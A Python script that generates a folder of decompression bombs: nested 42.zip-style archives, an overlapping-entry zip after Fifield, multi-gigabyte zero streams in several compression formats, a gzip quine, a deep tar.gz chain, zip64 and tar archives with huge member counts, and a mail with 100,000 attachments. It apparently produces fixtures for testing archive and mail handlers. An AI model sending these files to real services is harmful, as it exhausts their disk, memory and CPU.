"""bombs.py FOLDER: files that unpack to far more than they are. Prints nothing."""

import bz2
import functools
import gzip
import io
import lzma
import os
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

from quine import gzip_quine

FOLDER = sys.argv[1]
GIB = 1024**3
PIECE = bytes(1024 * 1024)


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def nested():
    """Like 42.zip: five layers of sixteen archives, at their end a file of 1 GiB each: 1 PiB in all."""
    layer = flat()
    for _ in range(5):
        layer = zipped({f"lib {at:x}.zip": layer for at in range(16)})
    return layer


def overlapping(count=250, kernel_bytes=20 * 1024 * 1024):
    """As D. Fifield describes it (2019): each file quotes the headers behind it and ends in one kernel that all share."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(kernel_bytes)) + packer.flush()
    pieces, crc, size, data, directory = [], zlib.crc32(bytes(kernel_bytes)), kernel_bytes, kernel, []
    for at in range(count - 1, -1, -1):
        name = b"%03d" % at
        header = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0) + name
        directory.append((name, crc, len(data), size, len(header)))
        pieces.insert(0, header)
        if at > 0:
            quote = b"\0" + struct.pack("<HH", len(header), len(header) ^ 0xFFFF)
            pieces.insert(0, quote)
            crc = crc_joined(zlib.crc32(header), crc, size)
            size += len(header)
            data = quote + header + data
    body = b"".join(pieces) + kernel
    out, offset = b"", 0
    for name, one_crc, packed, whole, length in reversed(directory):
        out += b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 33, one_crc, packed, whole, len(name), 0, 0, 0, 0, 0, offset) + name
        offset += length + 5
    return body + out + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(out), len(body), 0)


def crc_joined(first, second, length):
    """CRC-32 of two pieces from theirs: the first one's register is run over `length` zero bytes (linear algebra over GF(2))."""
    matrix = [0xEDB88320] + [1 << at for at in range(31)]  # one zero bit
    bits = length * 8
    while bits:
        if bits & 1:
            first = times(matrix, first)
        matrix = [times(matrix, column) for column in matrix]
        bits >>= 1
    return first ^ second


def times(matrix, vector):
    result = 0
    for column in matrix:
        if vector & 1:
            result ^= column
        vector >>= 1
    return result


def write(name, content):
    with open(os.path.join(FOLDER, name), "wb") as file:
        file.write(content)


@functools.cache
def flat():
    """1 GiB of zeros, deflated."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w") as member:
        for _ in range(GIB // len(PIECE)):
            member.write(PIECE)
    return out.getvalue()


def repeated(pack, part=64 * 1024 * 1024):
    """10 GiB of zeros: members of these formats may stand one behind the other, so that one is packed and repeated."""
    return pack(bytes(part)) * (10 * GIB // part)


def packed_by(*command):
    return lambda content: subprocess.run(command, input=content, stdout=subprocess.PIPE, check=True).stdout


def chain(length=1000):
    """A tar.gz in a tar.gz, and so on."""
    content = b"the end"
    for _ in range(length):
        content = gzip.compress(tar_of({"next.tar.gz": content}), mtime=0)
    return content


def tar_of(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return out.getvalue()


def empty_members(count=1_000_000):
    """A zip with zip64 end records (APPNOTE 4.3.14 to 4.3.16) of members that are names and nothing more."""
    body, directory = [], []
    for at in range(count):
        name = b"%06x" % at
        header = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0)
        body.append(b"PK\x03\x04" + header + name)
        directory.append(b"PK\x01\x02\x14\0" + header + struct.pack("<HHHII", 0, 0, 0, 0, at * (30 + len(name))) + name)
    members, names = b"".join(body), b"".join(directory)
    end = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, len(names), len(members))
    end += b"PK\x06\x07" + struct.pack("<IQI", 0, len(members) + len(names), 1)
    return members + names + end + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def parts(count=100_000):
    """A mail of many small attachments."""
    part = "--b\nContent-Type: application/octet-stream; name=%d.bin\nContent-Transfer-Encoding: base64\n\naGVsbG8=\n"
    head = "From: a@example.org\nTo: b@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
    return (head + "".join(part % at for at in range(count)) + "--b--\n").encode()


write("nested.zip", nested())
write("overlapping.zip", overlapping())
write("flat.zip", flat())
write("zeros.gz", repeated(gzip.compress))
write("zeros.bz2", repeated(bz2.compress))
write("zeros.xz", repeated(lzma.compress))
write("zeros.zst", repeated(packed_by("zstd", "-q", "-c")))
write("zeros.lz4", repeated(packed_by("lz4", "-q", "-c")))
write("quine.gz", gzip_quine())
write("chain.tar.gz", chain())
write("members.zip", empty_members())
write("members.tar.gz", gzip.compress(tar_of({f"{at:06x}": b"" for at in range(100_000)})))
write("parts.eml", parts())
